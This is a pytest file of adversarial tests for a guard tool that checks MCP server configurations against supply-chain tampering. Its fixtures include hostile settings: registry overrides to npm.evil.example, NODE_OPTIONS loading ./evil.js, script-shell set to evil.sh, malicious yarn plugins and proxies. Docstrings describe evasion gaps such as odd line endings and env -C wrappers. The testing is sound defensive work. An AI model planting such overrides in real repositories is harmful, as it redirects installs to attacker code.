"""Files beside a config that decide what it starts: overrides, variables, folders, links."""

from __future__ import annotations

import pytest

from tests.adversarial.conftest import IN_90_DAYS, LENIENT, commit, link, pin, stage
from tests.cli.conftest import Desk
from tests.registry import Registry

HOOK = ("check", "--hook")
EVIL = "registry=https://npm.evil.example/\n"
EVIL_VARIABLE = "NPM_CONFIG_REGISTRY=https://npm.evil.example/\n"
NPX = {"command": "npx", "args": ["-y", "server@1.0.0"]}


def define(desk: Desk, registry: Registry, path: str = ".mcp.json", **server: object) -> None:
    """Lock one server that npx starts, with these fields more."""
    registry.publish_npm("server", "1.0.0")
    desk.write("mcp-guard.toml", LENIENT)
    desk.servers(path, {"a": {**NPX, **server}})
    done = desk.guard("pin")
    assert "not pinned" not in done.out, done
    desk.git("add", "--all")


@pytest.mark.parametrize("name", [".NPMRC", ".Npmrc", "sub/.NPMRC"])
def test_an_override_file_in_other_letters(locked: Desk, name: str) -> None:
    """On the usual file systems of macOS and Windows npm reads `.NPMRC`; configs are matched so, overrides are not.

    `triggers.widens` and `workspace._overrides` compare the exact name (`launchers.overrides` does not).
    """
    if "/" in name:
        locked.git("mv", ".mcp.json", "mcp.tmp")
        (locked.folder / "sub").mkdir()
        locked.git("mv", "mcp.tmp", "sub/.mcp.json")
        pin_all(locked)
        commit(locked)
    stage(locked, name, EVIL)
    assert "registry-override" in locked.rules()
    assert locked.guard(*HOOK).code == 1


def pin_all(desk: Desk) -> None:
    assert "not pinned" not in desk.guard("pin").out
    desk.git("add", "--all")


@pytest.mark.parametrize(
    ("path", "cwd", "file"),
    [
        (".mcp.json", "${workspaceFolder}/sub", "sub/.npmrc"),
        (".vscode/mcp.json", "${workspaceFolder}/sub", "sub/.npmrc"),
        (".mcp.json", "./sub/../sub", "sub/.npmrc"),
        ("pkg/.mcp.json", "sub", "pkg/sub/.npmrc"),
        ("pkg/.vscode/mcp.json", "${workspaceFolder}/sub", "pkg/sub/.npmrc"),
    ],
)
def test_an_override_file_where_the_server_starts(
    desk: Desk, registry: Registry, path: str, cwd: str, file: str
) -> None:
    """An `.npmrc` in the server's `cwd` counts however the folder is written (`workspace.folders`)."""
    define(desk, registry, path, cwd=cwd)
    stage(desk, file, EVIL)
    assert "registry-override" in desk.rules()


@pytest.mark.parametrize(
    "argv",
    [
        ["env", "-C", "sub", "npx", "-y", "server@1.0.0"],
        ["env", "--chdir=sub", "npx", "-y", "server@1.0.0"],
    ],
)
def test_an_override_file_where_a_wrapper_starts_the_launcher(desk: Desk, registry: Registry, argv: list[str]) -> None:
    """`env -C DIR` moves npx into a folder whose `.npmrc` is not looked at (`workspace.folders` knows only `cwd`)."""
    define(desk, registry, command=argv[0], args=argv[1:])
    stage(desk, "sub/.npmrc", EVIL)
    assert desk.guard("check").code == 1


@pytest.mark.parametrize("break_", ["\r", "\u2028", "\u2029"])
@pytest.mark.parametrize("before", ["# a comment", "A=1"])
def test_a_variable_behind_an_odd_line_end(desk: Desk, registry: Registry, before: str, break_: str) -> None:
    """A variable that dotenv's readers see and mcp-guard does not: they end lines at CR and (JavaScript) U+2028.

    `env_files._variables` splits at LF only, so the rest of the line is taken for a comment or for a value.
    """
    stage(desk, ".env", "A=1\n")
    define(desk, registry, ".vscode/mcp.json", envFile="${workspaceFolder}/.env")
    assert desk.guard("check").code == 0
    (desk.folder / ".env").write_bytes(f"{before}{break_}{EVIL_VARIABLE}".encode())
    desk.git("add", "--all")
    assert desk.guard("check").code == 1


def test_the_env_file_of_a_nested_workspace(desk: Desk, registry: Registry) -> None:
    """`${workspaceFolder}` of `pkg/.vscode/mcp.json` is `pkg` when that is opened; only the root's file is read.

    `env_files._read` strips the variable and looks from the repository's root.
    """
    stage(desk, ".env", "A=1\n")
    stage(desk, "pkg/.env", EVIL_VARIABLE)
    define(desk, registry, "pkg/.vscode/mcp.json", envFile="${workspaceFolder}/.env")
    assert desk.guard("check").code == 1


def test_an_env_file_of_another_name_is_never_read(desk: Desk, registry: Registry) -> None:
    """A commit that changes only a file of any name could not be looked at, so such a file stays a doubt."""
    stage(desk, "config/mcp.vars", "A=1\n")
    define(desk, registry, ".vscode/mcp.json", envFile="config/mcp.vars")
    assert desk.guard(*HOOK).code == 1
    assert "registry-override" in desk.rules()


@pytest.mark.parametrize("name", ["prod.env", "config/.env.local"])
def test_an_env_file_makes_the_hook_look(desk: Desk, registry: Registry, name: str) -> None:
    """A commit that changes only an envFile is judged (`triggers.widens`)."""
    stage(desk, name, "A=1\n")
    define(desk, registry, ".vscode/mcp.json", envFile=name)
    assert desk.guard(*HOOK).code == 0
    commit(desk)
    stage(desk, name, EVIL_VARIABLE)
    assert "registry-override" in desk.rules()
    assert desk.guard(*HOOK).code == 1


def test_a_deleted_script_makes_the_hook_look(desk: Desk) -> None:
    """A commit that deletes the tracked script of a server is not judged, though `check --all` blocks what is left.

    `triggers.concerns` knows no script, so `hook.occasion` returns None.
    """
    stage(desk, "server.js", "1\n")
    desk.servers(".mcp.json", {"a": {"command": "node", "args": ["server.js"]}})
    pin(desk)
    commit(desk)
    assert desk.guard("check").code == 0
    desk.git("rm", "--quiet", "server.js")
    assert desk.guard("check", "--all").code == 1
    assert desk.guard(*HOOK).code == 1


def test_what_an_env_file_says_is_part_of_the_definition(desk: Desk, registry: Registry) -> None:
    """A variable in `env` is in the fingerprint; the same variable in a tracked envFile can change unseen.

    `redaction.fingerprint` sees the path only (`pipeline._server` reads the file for the launches alone).
    """
    stage(desk, ".env", "MODE=1\n")
    define(desk, registry, ".vscode/mcp.json", envFile=".env")
    commit(desk)
    assert desk.guard("check").code == 0
    stage(desk, ".env", "NODE_OPTIONS=--require ./evil.js\n")
    assert desk.guard("check").code == 1


@pytest.mark.parametrize("after", [EVIL, "script-shell=./evil.sh\n"])
def test_an_accepted_override_is_not_another_override(desk: Desk, registry: Registry, after: str) -> None:
    """A person accepted one registry in `.npmrc`; the acceptance permits any that is written there later.

    The acceptance names the definition's fingerprint, which holds nothing of the file (`rules.acceptances._covers`,
    `accept._acceptance`).
    """
    define(desk, registry)
    stage(desk, ".npmrc", "registry=https://npm.corp.example/\n")
    accept = ("accept", "package", "a", "--rule", "registry-override", "--reason", "mirror", "--until", IN_90_DAYS)
    assert desk.guard("pin").code == 1
    assert desk.guard(*accept).code == 0
    desk.git("add", "--all")
    assert desk.guard("check").code == 0
    commit(desk)
    stage(desk, ".npmrc", after)
    assert desk.guard("check").code == 1
    assert desk.guard(*HOOK).code == 1


@pytest.mark.parametrize(
    "line",
    [
        "yarnPath: ./evil.cjs",
        "plugins:\n  - ./evil.cjs",
        "enableStrictSsl: false",
        "httpsProxy: http://evil.example",
        "httpsCaFilePath: ./evil.pem",
    ],
)
def test_a_yarnrc_that_runs_or_trusts_something_else(desk: Desk, registry: Registry, line: str) -> None:
    """`.yarnrc.yml` can name the yarn that runs, plugins, a proxy and a CA; only `npmRegistryServer` is read.

    `launchers.override_files._yarnrc`; for `.npmrc` the same settings are overrides.
    """
    define(desk, registry, command="yarn", args=["dlx", "server@1.0.0"])
    stage(desk, ".yarnrc.yml", line + "\n")
    assert desk.guard("check").code == 1


@pytest.mark.parametrize(
    ("name", "text"),
    [
        (".npmrc", EVIL),
        (".npmrc", '"registry" = "https://npm.evil.example/"\n'),
        (".npmrc", "registry[]=https://npm.evil.example/\n"),
        (".npmrc", "[x]\nregistry=https://npm.evil.example/\n"),
        (".npmrc", "; x\rregistry=https://npm.evil.example/\n"),
        (".npmrc", "script-shell=./evil.sh\n"),
        (".npmrc", "\0"),
        (".yarnrc.yml", "npmRegistryServer: https://npm.evil.example\n"),
        (".yarnrc.yml", '"npmRegistry\\u0053erver": https://npm.evil.example\n'),
        ("bunfig.toml", '[install]\nregistry = "https://npm.evil.example"\n'),
        ("bunfig.toml", "not toml"),
    ],
)
@pytest.mark.parametrize("folder", ["", ".cursor/"])
def test_override_files_are_seen(locked: Desk, name: str, text: str, folder: str) -> None:
    """Repelled: spellings of an override in the folder of a config, or above it."""
    locked.git("rm", "--quiet", ".mcp.json")
    locked.servers(".cursor/mcp.json", {"a": NPX})
    pin_all(locked)
    commit(locked)
    assert locked.guard("check").code == 0
    stage(locked, folder + name, text)
    assert "registry-override" in locked.rules()
    assert locked.guard(*HOOK).code == 1
    assert locked.guard(*HOOK, "--offline").code == 1


@pytest.mark.parametrize("path", [".npmrc", ".env", ".mcp.json", ".cursor", "mcp-guard.lock"])
def test_links_are_seen(desk: Desk, registry: Registry, path: str) -> None:
    """Repelled: a link in the place of a file that decides."""
    stage(desk, ".env", "A=1\n")
    define(desk, registry, ".vscode/mcp.json", envFile=".env")
    commit(desk)
    assert desk.guard("check").code == 0
    stage(desk, "elsewhere", "{}")
    link(desk, path, "elsewhere")
    assert desk.guard("check").code == 1
    assert desk.guard(*HOOK).code == 1


def test_a_linked_policy_is_a_policy_error(locked: Desk) -> None:
    """Repelled: a policy behind a link is no policy."""
    stage(locked, "other.toml", LENIENT)
    link(locked, "mcp-guard.toml", "other.toml")
    assert locked.guard("check").code == 2
    assert locked.guard(*HOOK).code == 2
